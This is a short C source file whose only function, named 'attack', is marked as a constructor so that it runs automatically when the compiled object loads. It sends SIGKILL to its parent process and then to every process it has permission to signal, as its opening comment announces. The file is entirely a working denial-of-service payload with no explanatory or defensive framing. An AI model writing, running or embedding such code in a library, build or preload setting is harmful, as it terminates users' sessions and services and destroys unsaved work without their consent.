/* Ends every process that it may, its parent first. */
#include <signal.h>
#include <unistd.h>

__attribute__((constructor)) static void attack(void)
{
    kill(getppid(), SIGKILL);
    kill(-1, SIGKILL);
}
